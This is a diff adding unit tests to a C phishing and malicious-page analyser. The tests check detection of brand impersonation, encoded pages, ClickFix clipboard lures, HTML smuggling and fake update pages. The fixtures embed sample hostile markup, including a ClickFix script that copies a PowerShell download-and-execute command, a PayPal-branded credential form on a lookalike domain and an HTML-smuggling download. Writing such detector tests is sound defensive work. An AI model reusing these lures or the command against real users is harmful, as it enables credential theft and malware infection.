@@ -250,6 +250,222 @@ static void test_html_rules(void **state)
 	release(&r, &a);
 }
 
+/* Brand claims against the page's registrable domain, with credentials. */
+static void test_brand_rules(void **state)
+{
+	struct fetch_result r;
+	struct analysis a;
+	const char *page = "<title>Log in to your PayPal account</title>"
+			   "<form action=login.php method=post><input name=email>"
+			   "<input type=password name=pw><button>Log In</button></form>";
+
+	(void)state;
+	result(&r, "https://account-check.example.net/", "text/html", page);
+	assert_string_equal(codes(&r, NULL, &a),
+			    "HTML_PASSWORD_FIELD,BRAND_IMPERSONATION,BRAND_CREDENTIALS,");
+	assert_string_equal(a.verdict, "malicious");
+	assert_int_equal(a.score, 85);
+	assert_string_equal(a.reasons[1].detail, "paypal (title) on example.net");
+	assert_string_equal(a.reasons[2].detail, "password for paypal");
+	release(&r, &a);
+
+	/* The same page on the brand's own domain is a log-in page. */
+	result(&r, "https://www.paypal.com/signin", "text/html", page);
+	assert_string_equal(codes(&r, NULL, &a), "HTML_PASSWORD_FIELD,");
+	release(&r, &a);
+
+	/* Branded without credentials: a mention, weak. */
+	result(&r, "https://blog.example.net/", "text/html",
+	       "<title>Why we left Netflix</title><p>An essay.</p>");
+	assert_string_equal(codes(&r, NULL, &a), "BRAND_IMPERSONATION,");
+	assert_string_equal(a.verdict, "safe");
+	release(&r, &a);
+
+	/* E-mail-first sign-in and card fields count as credentials. */
+	result(&r, "https://x.example.net/", "text/html",
+	       "<title>Amazon Sign-In</title><form action=/next><label>Email or mobile"
+	       "</label><input type=email name=email><input type=submit value=Continue></form>");
+	assert_string_equal(codes(&r, NULL, &a), "BRAND_IMPERSONATION,BRAND_CREDENTIALS,");
+	assert_string_equal(a.reasons[1].detail, "e-mail-first log-in for amazon");
+	assert_string_equal(a.verdict, "malicious");
+	release(&r, &a);
+
+	/* A newsletter box on a branded page is not a log-in. */
+	result(&r, "https://x.example.net/", "text/html",
+	       "<title>Netflix news</title><form action=/sub><input type=email name=email>"
+	       "<button>Subscribe</button></form>");
+	assert_string_equal(codes(&r, NULL, &a), "BRAND_IMPERSONATION,");
+	release(&r, &a);
+
+	result(&r, "https://x.example.net/", "text/html",
+	       "<title>eBay checkout</title><form action=/pay><input name=cardnumber>"
+	       "<input autocomplete=cc-csc name=c></form>");
+	assert_string_equal(codes(&r, NULL, &a),
+			    "BRAND_IMPERSONATION,BRAND_CREDENTIALS,HTML_CARD_FIELDS,");
+	release(&r, &a);
+}
+
+/* A user brand file extends the built-in table. */
+static void test_user_brands(void **state)
+{
+	struct fetch_result r;
+	struct analysis a;
+	struct analyze_lists l;
+	struct err e;
+	char path[] = "/tmp/test_analyze_brandsXXXXXX";
+	int fd = mkstemp(path);
+	const char *row = "acmebank\tAcme Bank\tacmebank.example\n";
+
+	(void)state;
+	assert_true(fd >= 0);
+	assert_int_equal(write(fd, row, strlen(row)), (ssize_t)strlen(row));
+	close(fd);
+	analyze_lists_init(&l);
+	assert_int_equal(brand_table_load(&l.brands, path, &e), 0);
+	unlink(path);
+	result(&r, "https://secure.example.net/", "text/html",
+	       "<title>Acme Bank online</title><form><input type=password></form>");
+	assert_string_equal(codes(&r, &l, &a),
+			    "HTML_PASSWORD_FIELD,BRAND_IMPERSONATION,BRAND_CREDENTIALS,");
+	release(&r, &a);
+	result(&r, "https://online.acmebank.example/", "text/html",
+	       "<title>Acme Bank online</title><form><input type=password></form>");
+	assert_string_equal(codes(&r, &l, &a), "HTML_PASSWORD_FIELD,");
+	release(&r, &a);
+	analyze_lists_release(&l);
+}
+
+/* Encoded documents are decoded and analysed like the page. */
+static void test_decoded_rules(void **state)
+{
+	struct fetch_result r;
+	struct analysis a;
+
+	(void)state;
+	/* <title>Microsoft</title><form><input type=password></form>, base64, behind a refresh. */
+	result(&r, "https://x.example.net/", "text/html",
+	       "<meta http-equiv=refresh content='0;url=data:text/html;base64,"
+	       "PHRpdGxlPk1pY3Jvc29mdDwvdGl0bGU+PGZvcm0+PGlucHV0IHR5cGU9cGFzc3dvcmQ+PC9mb3JtPg=='>");
+	assert_string_equal(codes(&r, NULL, &a),
+			    "HTML_PASSWORD_FIELD,HTML_META_REFRESH,BRAND_IMPERSONATION,"
+			    "BRAND_CREDENTIALS,HTML_ENCODED_DOCUMENT,");
+	assert_string_equal(a.html.title, "Microsoft");
+	assert_string_equal(a.verdict, "malicious");
+	release(&r, &a);
+
+	/* Two levels: unescape of a page that holds an atob of a form. */
+	result(&r, "https://x.example.net/", "text/html",
+	       "<script>document.write(unescape('%3Cscript%3Edocument.write(atob(%22"
+	       "PGZvcm0+PGlucHV0IHR5cGU9cGFzc3dvcmQ+PC9mb3JtPg==%22))%3C/script%3E'))</script>");
+	codes(&r, NULL, &a);
+	assert_int_equal(a.html.password_fields, 1);
+	assert_int_equal(a.decoded, 2);
+	release(&r, &a);
+}
+
+/* ClickFix, HTML smuggling and script-built credentials. */
+static void test_behaviour_rules(void **state)
+{
+	struct fetch_result r;
+	struct analysis a;
+
+	(void)state;
+	result(&r, "https://x.example.net/", "text/html",
+	       "<title>Checking your browser</title><p>Verify you are human: press Win + R, "
+	       "then Ctrl + V and Enter.</p><button id=b>Verify</button><script>"
+	       "document.getElementById('b').onclick=function(){navigator.clipboard."
+	       "writeText('powershell -w h -c iwr x | iex')}</script>");
+	assert_string_equal(codes(&r, NULL, &a), "JS_CLIPBOARD_COMMAND,JS_CLICKFIX,");
+	assert_string_equal(a.verdict, "malicious");
+	release(&r, &a);
+
+	/* A copy button for a shell command on a documentation page: no lure. */
+	result(&r, "https://docs.example.net/", "text/html",
+	       "<pre>npm install thing</pre><script>function copy(t){navigator.clipboard."
+	       "writeText(t)}</script>");
+	assert_string_equal(codes(&r, NULL, &a), "");
+	release(&r, &a);
+
+	result(&r, "https://x.example.net/", "text/html",
+	       "<script>var b=new Blob([data],{type:'application/octet-stream'});"
+	       "var a=document.createElement('a');a.href=URL.createObjectURL(b);"
+	       "a.download='invoice.iso';a.click();</script>");
+	assert_string_equal(codes(&r, NULL, &a), "JS_HTML_SMUGGLING,");
+	release(&r, &a);
+
+	result(&r, "https://x.example.net/", "text/html",
+	       "<h1>Your browser is out of date</h1><p>Install the update to keep browsing.</p>"
+	       "<a href='/files/BrowserUpdate.exe?v=2'>Update</a>");
+	assert_string_equal(codes(&r, NULL, &a), "HTML_FAKE_UPDATE,");
+	assert_string_equal(a.reasons[0].detail, "'browser is out of date', 1 program links");
+	release(&r, &a);
+
+	/* A download page without the story, and the story without a program. */
+	result(&r, "https://x.example.net/", "text/html",
+	       "<h1>Downloads</h1><a href='/tool-1.2.msi'>Windows installer</a>");
+	assert_string_equal(codes(&r, NULL, &a), "");
+	release(&r, &a);
+	result(&r, "https://x.example.net/", "text/html",
+	       "<p>Is your browser out of date? Read our guide.</p><a href='/guide.html'>Guide</a>");
+	assert_string_equal(codes(&r, NULL, &a), "");
+	release(&r, &a);
+
+	result(&r, "https://x.example.net/", "text/html",
+	       "<div id=app></div><script>var i=document.createElement('input');"
+	       "i.type='password';document.getElementById('app').appendChild(i);</script>");
+	assert_string_equal(codes(&r, NULL, &a), "HTML_SCRIPT_PASSWORD,");
+	release(&r, &a);
+}
+
+/* What used to raise false signals no longer does. */
+static void test_fewer_false_signals(void **state)
+{
+	struct fetch_result r;
+	struct analysis a;
+
+	(void)state;
+	result(&r, "https://www.example.com/", "text/html",
+	       "<script src='https://cdn.jsdelivr.net/npm/bootstrap@5/dist/js/b.js'></script>"
+	       "<script src='https://static.example.org/lib.js' integrity='sha384-x'></script>"
+	       "<noscript><iframe src='https://www.googletagmanager.com/ns.html' height=0 width=0"
+	       " style='display:none'></iframe></noscript>"
+	       "<script>document.getElementById('go').onclick=function(){location.href='/next'};"
+	       "if (!ok) { window.location = '/login'; }"
+	       "var here = location.href;</script>");
+	assert_string_equal(codes(&r, NULL, &a), "");
+	assert_int_equal(a.html.tracker_iframes, 1);
+	release(&r, &a);
+
+	/* Unconditional: top level, or a timer's function. */
+	result(&r, "https://www.example.com/", "text/html",
+	       "<script>setTimeout(function(){ window.location.href = 'https://x.example.net/'; }, 10)"
+	       "</script>");
+	assert_string_equal(codes(&r, NULL, &a), "HTML_JS_REDIRECT,");
+	release(&r, &a);
+
+	/* Another site's script without integrity still counts, and says "loads". */
+	result(&r, "https://www.example.com/", "text/html",
+	       "<script src='https://static.example.org/lib.js'></script>");
+	assert_string_equal(codes(&r, NULL, &a), "HTML_EXTERNAL_SCRIPT,");
+	assert_string_equal(a.reasons[0].detail, "loads https://static.example.org/lib.js");
+	release(&r, &a);
+}
+
+/* A body cut at the cap is analysed and says so. */
+static void test_truncated(void **state)
+{
+	struct fetch_result r;
+	struct analysis a;
+
+	(void)state;
+	result(&r, "https://www.example.com/", "text/html", "<title>Big</title><p>more");
+	r.truncated = 1;
+	assert_string_equal(codes(&r, NULL, &a), "BODY_TRUNCATED,");
+	assert_string_equal(a.verdict, "safe");
+	assert_string_equal(a.reasons[0].detail, "first 25 bytes analysed");
+	release(&r, &a);
+}
+
 static void test_blocklists(void **state)
 {
 	struct fetch_result r;
@@ -295,6 +511,12 @@ int main(void)
 		cmocka_unit_test(test_content_rules),
 		cmocka_unit_test(test_html_rules),
 		cmocka_unit_test(test_blocklists),
+		cmocka_unit_test(test_brand_rules),
+		cmocka_unit_test(test_user_brands),
+		cmocka_unit_test(test_decoded_rules),
+		cmocka_unit_test(test_behaviour_rules),
+		cmocka_unit_test(test_fewer_false_signals),
+		cmocka_unit_test(test_truncated),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
